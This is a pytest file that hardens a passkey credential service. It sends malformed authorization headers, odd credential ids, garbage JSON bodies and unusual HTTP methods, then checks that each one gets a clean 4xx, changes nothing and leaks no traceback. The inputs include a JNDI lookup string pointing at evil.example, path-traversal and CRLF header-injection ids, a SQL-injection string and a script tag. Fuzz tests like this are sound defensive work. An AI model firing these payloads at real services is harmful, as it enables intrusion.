"""The routes of a credential's life under fire: whatever comes, a clear 4xx, nothing changed, nothing told, and the host lives."""

from __future__ import annotations

import itertools
import secrets
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from demo.authenticator import Passkey
from demo.ceremonies import Answer, call
from tests.faults.evidence import acts_of
from tests.faults.tickets import issue_tickets
from tests.hosts import FUNCTION_KEY, RunningHost, running_host
from tests.visits import Visit, enrol, sign_in

ENV = {
    "PASSKEYS_LIMIT_NETWORK": "100000/60",
    "PASSKEYS_LIMIT_PERSON": "100000/60",
    "PASSKEYS_LIMIT_ACTS": "100000/60",
    "PASSKEYS_AUDIT_FLUSH_SCHEDULE": "* * * * * *",
}


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningHost]:
    state: Path = tmp_path_factory.mktemp("hostile") / "state"
    with running_host(state=state, env=ENV) as running:
        yield running


@pytest.fixture(scope="module")
def people(host: RunningHost) -> tuple[Passkey, Visit, Passkey, Visit]:
    """Ada's passkey and session, and Grace's, who is an operator."""
    tickets = issue_tickets(host.state, "ada", "grace")
    (adas, by_ada), (graces, by_grace) = (enrol(host.url, ticket) for ticket in tickets)
    return adas, by_ada, graces, by_grace


def is_problem(answer: Answer, *statuses: int) -> None:
    """One of these statuses, a problem document, and nothing of the program in it."""
    assert answer.status in statuses, (answer.status, answer.body)
    assert answer.headers["content-type"] == "application/problem+json", answer
    text = str(answer.body)
    for leak in ("Traceback", "site-packages", ".py", "Exception"):
        assert leak not in text


ROUTES = (
    ("POST", "/registrations"),
    ("GET", "/credentials"),
    ("PATCH", "/credentials/{id}"),
    ("DELETE", "/credentials/{id}"),
    ("GET", "/ceremonies/{ceremony}/signals"),
)
KEYED = (
    ("GET", "/operations/credentials?person=ada"),
    ("POST", "/operations/credentials/{id}/disable"),
    ("POST", "/operations/credentials/{id}/enable"),
)


def odd_headers(visit: Visit, other: Visit) -> dict[str, str]:
    """Authorization headers that are nobody's session."""
    ceremony, verifier = visit.ceremony_id, visit.verifier
    return {
        "empty": "",
        "scheme alone": "Ceremony",
        "no verifier": f"Ceremony {ceremony}:",
        "no colon": f"Ceremony {ceremony}",
        "no ceremony": f"Ceremony :{verifier}",
        "another verifier": f"Ceremony {ceremony}:{secrets.token_urlsafe(48)}",
        "another's verifier": f"Ceremony {ceremony}:{other.verifier}",
        "crossed": f"Ceremony {other.ceremony_id}:{verifier}",
        "a prefix": f"Ceremony {ceremony}:{verifier[:-1]}",
        "and more": f"Ceremony {ceremony}:{verifier}A",
        "twice in one": f"Ceremony {ceremony}:{verifier}, Ceremony {ceremony}:{verifier}",
        "with parameters": f'Ceremony {ceremony}:{verifier}, realm="x"',
        "two colons": f"Ceremony {ceremony}::{verifier}",
        "capitals": f"Ceremony {ceremony.upper()}:{verifier}",
        "an entity": f"Ceremony @audit_log@00:{verifier}",
        "the flush": f"Ceremony audit-flush:{verifier}",
        "an act": f"Ceremony act-{'0' * 32}:{verifier}",
        "nobody's": f"Ceremony authentication-{'0' * 32}:{verifier}",
        "basic": f"Basic {ceremony}:{verifier}",
        "bearer": f"Bearer {verifier}",
        "not ascii": f"Ceremony {ceremony}:{verifier}\xe9",
        "long": "Ceremony " + "a" * 7_000,
        "long verifier": f"Ceremony {ceremony}:" + "a" * 7_000,
        "template": "Ceremony ${jndi:ldap://evil.example/x}:{{7*7}}",
    }


@pytest.mark.parametrize(
    "name",
    sorted(odd_headers(Visit("", "x", "y", Answer(0, {}, {})), Visit("", "x", "y", Answer(0, {}, {})))),
)
def test_an_odd_header_is_no_session_anywhere(
    host: RunningHost, people: tuple[Passkey, Visit, Passkey, Visit], name: str
) -> None:
    """On every route: 401 with one body, whatever is wrong and whosever the id in the path is."""
    adas, by_ada, graces, by_grace = people
    header = {"Authorization": odd_headers(by_ada, by_grace)[name].encode("latin-1").decode("latin-1")}
    told = set()
    for (method, route), found in itertools.product((*ROUTES, *KEYED), (adas.id, graces.id, "AQID")):
        path = route.format(id=found, ceremony=by_ada.ceremony_id)
        headers = {**header, "x-functions-key": FUNCTION_KEY}
        body = None if method in {"GET", "DELETE"} else {"name": "x", "reason": "x"}
        answer = call(host.url, method, path, body, headers=headers)
        is_problem(answer, 401)
        told.add((str(answer.body), answer.headers["www-authenticate"]))
    assert len(told) == 1
    assert next(iter(told))[1] == "Ceremony"


ODD_IDS = [
    "..", ".", "%2e%2e", "..%2f..%2fpeople", "%2e%2e%2fpeople%2fYWRh", "%00", "%ff%fe", "a%20b", "AQ==", "A", "AQJ", "-", "%7Bid%7D",
    "A" * 1_365, "A" * 6_000, "@audit_log@00", "act-" + "0" * 32, "%F0%9F%94%91", "%0d%0aX-Injected:%20y", "*", "sha256=" + "0" * 64,
    "null", "undefined", "1", "true", "' OR 1=1 --", "%3Cscript%3E",
]  # fmt: skip


@pytest.mark.parametrize("found", ODD_IDS, ids=range(len(ODD_IDS)))
def test_an_odd_id_is_unknown(
    host: RunningHost, people: tuple[Passkey, Visit, Passkey, Visit], found: str
) -> None:
    """In a good session, an operator's too: 404, and no act is begun for it."""
    _, _, _, by_grace = people
    before = len(acts_of(host.url))
    found = found.replace(" ", "%20").replace("'", "%27")
    headers = {**by_grace.header, "x-functions-key": FUNCTION_KEY}
    for method, path, body in (
        ("PATCH", f"/credentials/{found}", {"name": "x"}),
        ("DELETE", f"/credentials/{found}?confirm=last", None),
        ("POST", f"/operations/credentials/{found}/disable", {"reason": "x"}),
        ("POST", f"/operations/credentials/{found}/enable", {"reason": "x"}),
        ("GET", f"/authenticators/{found}/icon", None),
        ("GET", f"/ceremonies/{found}/signals", None),
    ):
        answer = call(host.url, method, path, body, headers=headers)
        # The host answers itself what is no path of the app: dots that lead elsewhere, bytes that are not UTF-8.
        assert answer.status in {400, 404, 405, 414}, (path, answer)
        assert "x-injected" not in answer.headers
        assert "Traceback" not in str(answer.body)
    assert len(acts_of(host.url)) == before


WRONG: list[Any] = [
    None, True, 7, -1, 1.5, 10**30, "", " ", "x" * 65, "x" * 501, "x" * 60_000, "a\nb", "\x00", "\u202e", "\ud800", [], ["x"], {}, {"a": 1},
]  # fmt: skip


def deep(levels: int) -> str:
    return "[" * levels + "]" * levels


BODIES: list[bytes] = [
    b"", b"null", b"[]", b'"x"', b"7", b"{", b"\xff\xfe", b"{}", b'{"name":"a","name":"b","reason":"a","reason":"b"}',
    b'{"name": NaN, "reason": NaN}', b'{"name": 1e999, "reason": 1e999}', f'{{"name": {deep(20)}, "reason": {deep(20)}}}'.encode(),
    f'{{"x": {deep(30_000)}}}'.encode(), b'{"name": "' + b"x" * 70_000 + b'"}', b"\xef\xbb\xbf{}",
]  # fmt: skip


def test_wrong_types_and_garbage_are_refused(
    host: RunningHost, people: tuple[Passkey, Visit, Passkey, Visit]
) -> None:
    """Names and reasons of every wrong type and size, and bodies that are none: 400, 413 or 415, and no act."""
    adas, by_ada, _, by_grace = people
    before = len(acts_of(host.url))
    keyed = {**by_grace.header, "x-functions-key": FUNCTION_KEY}
    targets = (
        ("PATCH", f"/credentials/{adas.id}", by_ada.header, "name"),
        ("POST", f"/operations/credentials/{adas.id}/disable", keyed, "reason"),
        ("POST", f"/operations/credentials/{adas.id}/enable", keyed, "reason"),
    )
    for method, path, headers, member in targets:
        for value in WRONG:
            if member == "reason" and value == "x" * 65:
                continue  # a name would be too long; a reason is not
            is_problem(call(host.url, method, path, {member: value}, headers=headers), 400)
        for body in BODIES:
            is_problem(call(host.url, method, path, body, headers=headers), 400, 413)
        for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data", ""):
            sent = {**headers, "Content-Type": kind}
            is_problem(call(host.url, method, path, b'{"name":"x","reason":"x"}', headers=sent), 415)
    for body in (
        {"mediation": 7},
        {"mediation": "silent"},
        {"code_challenge": "x"},
        {"ticket": "x"},
        {"ticket": 7},
    ):
        is_problem(call(host.url, "POST", "/registrations", body, headers=by_ada.header), 400)
    assert len(acts_of(host.url)) == before
    assert [(one["id"], one["name"], one["standing"]) for one in by_ada.listed()] == [
        (adas.id, None, "active")
    ]


QUERIES = ["", "?person=", "?person=a%20b", "?person=..%2f..", "?person=" + "a" * 5_000, "?person=%00", "?person=ada&person=grace", "?person=%F0%9F%94%91"]  # fmt: skip


@pytest.mark.parametrize("query", QUERIES, ids=range(len(QUERIES)))
def test_a_person_that_is_none_is_refused(
    host: RunningHost, people: tuple[Passkey, Visit, Passkey, Visit], query: str
) -> None:
    """400, with what it must be."""
    is_problem(people[3].operate("GET", f"/operations/credentials{query}"), 400)


@pytest.mark.parametrize("confirm", ["first", "LAST", "last%20", "last&confirm=last", "%00", "x" * 3_000])
def test_an_odd_confirmation_confirms_nothing(
    host: RunningHost, people: tuple[Passkey, Visit, Passkey, Visit], confirm: str
) -> None:
    """The last passkey goes by one word alone."""
    adas, by_ada, _, _ = people
    is_problem(by_ada.ask("DELETE", f"/credentials/{adas.id}?confirm={confirm}"), 400)
    assert sign_in(host.url, adas).answer.outcome == "completed"


@pytest.mark.parametrize("method", ["PUT", "POST", "PATCH", "DELETE", "OPTIONS", "TRACE", "BREW"])
def test_other_methods_are_refused(host: RunningHost, method: str) -> None:
    """405 with what is allowed, or the host's own refusal, on every route; with the key, operators' too."""
    allowed = {
        "/credentials": {"GET"},
        "/credentials/AQID": {"PATCH", "DELETE"},
        f"/ceremonies/authentication-{'0' * 32}/signals": {"GET"},
        "/authenticators/ee882879-721c-4913-9775-3dfcce97072a/icon": {"GET"},
        "/.well-known/webauthn": {"GET"},
        "/.well-known/passkey-endpoints": {"GET"},
        "/operations/credentials": {"GET"},
        "/operations/credentials/AQID/disable": {"POST"},
        "/operations/credentials/AQID/enable": {"POST"},
    }
    for path, methods in allowed.items():
        if method in methods:
            continue
        answer = call(host.url, method, path, headers={"x-functions-key": FUNCTION_KEY})
        assert answer.status in {400, 405, 501}, (method, path, answer)
        if answer.status == 405 and "allow" in answer.headers:
            assert methods <= set(answer.headers["allow"].split(", "))


def test_after_all_of_it_the_host_is_as_it_was(
    host: RunningHost, people: tuple[Passkey, Visit, Passkey, Visit]
) -> None:
    """Both passkeys work, nobody was disabled, renamed or removed, and the log has no trace of a failure."""
    adas, by_ada, graces, _ = people
    for passkey in (adas, graces):
        assert sign_in(host.url, passkey).answer.outcome == "completed"
    assert [one["id"] for one in by_ada.listed()] == [adas.id]
    assert acts_of(host.url) == {}
    assert call(host.url, "GET", "/healthz").status == 200
    assert "Traceback" not in host.log()
